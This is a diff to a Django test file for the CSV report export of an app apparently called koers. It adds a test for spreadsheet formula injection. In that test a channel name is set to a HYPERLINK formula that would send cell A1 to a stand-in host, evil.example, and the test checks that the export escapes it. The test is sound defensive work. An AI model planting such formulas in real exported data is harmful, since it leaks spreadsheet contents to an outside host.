@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 from datetime import UTC, date, datetime
 
 import pytest
@@ -12,6 +14,7 @@ from django.urls import reverse
 from koers.measurement import actions, report, tasks
 from koers.measurement.models import ReportSchedule
 from koers.measurement.periods import parse
+from koers.measurement.tests.conftest import add_post
 from tests.pdf import pdf_pages
 
 pytestmark = pytest.mark.django_db
@@ -55,11 +58,11 @@ def test_csv_export_holds_every_kpi_with_empty_cells_for_no_value(
     response = client_for(anna).get(
         reverse("measurement:report", args=[acme.slug]), {"period": "2026-10", "format": "csv"}
     )
-    lines = response.content.decode().splitlines()
-    kpi_lines = [line for line in lines if line.startswith("kpi,")]
-    assert len(kpi_lines) == 14
-    assert "kpi,applause_rate,,Applausratio,7,14,2,per_post,,2026-10-01,2026-10-31" in lines
-    assert "kpi,response_rate,,Responspercentage,,,,percent,,2026-10-01,2026-10-31" in lines
+    rows = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
+    kpi_rows = [",".join(row) for row in rows if row[0] == "kpi"]
+    assert len(kpi_rows) == 14
+    assert "kpi,applause_rate,,Applausratio,7,14,2,per_post,,2026-10-01,2026-10-31" in kpi_rows
+    assert "kpi,response_rate,,Responspercentage,,,,percent,,2026-10-01,2026-10-31" in kpi_rows
 
 
 def test_a_due_schedule_mails_last_months_pdf_and_moves_to_next_month(acme, anna, october_posts):
@@ -92,3 +95,23 @@ def test_schedule_form_refuses_a_bad_address(acme, bram, client_for):
     )
     assert "geen-adres is geen geldig e-mailadres." in response.content.decode()
     assert not ReportSchedule.objects.exists()
+
+
+def test_csv_export_writes_channel_names_as_text_and_koers_own_numbers_as_numbers(
+    acme, anna, client_for
+):
+    channel = '=HYPERLINK("https://evil.example/?"&A1,"klik")'
+    for day in (5, 12, 19):  # three Mondays 10:30 Amsterdam: a best time for the channel
+        add_post(acme, f"b{day}", datetime(2026, 10, day, 8, 30, tzinfo=UTC), channel=channel,
+                 likes=day, replies=0, reposts=0)  # fmt: skip
+    response = client_for(anna).get(
+        reverse("measurement:report", args=[acme.slug]), {"period": "2026-10", "format": "csv"}
+    )
+    text = response.content.decode()
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+    best = [r for r in rows if r[0] == "best_time"]
+    assert best and {r[1] for r in best} == {"'" + channel}
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
+    # The mean of 5, 12 and 19 likes: a number koers computed, written unquoted.
+    assert '"best_time","\'=HYPERLINK(""https://evil.example/?""&A1,""klik"")",' in text
+    assert ',12,"",3,"mean_engagements",' in text
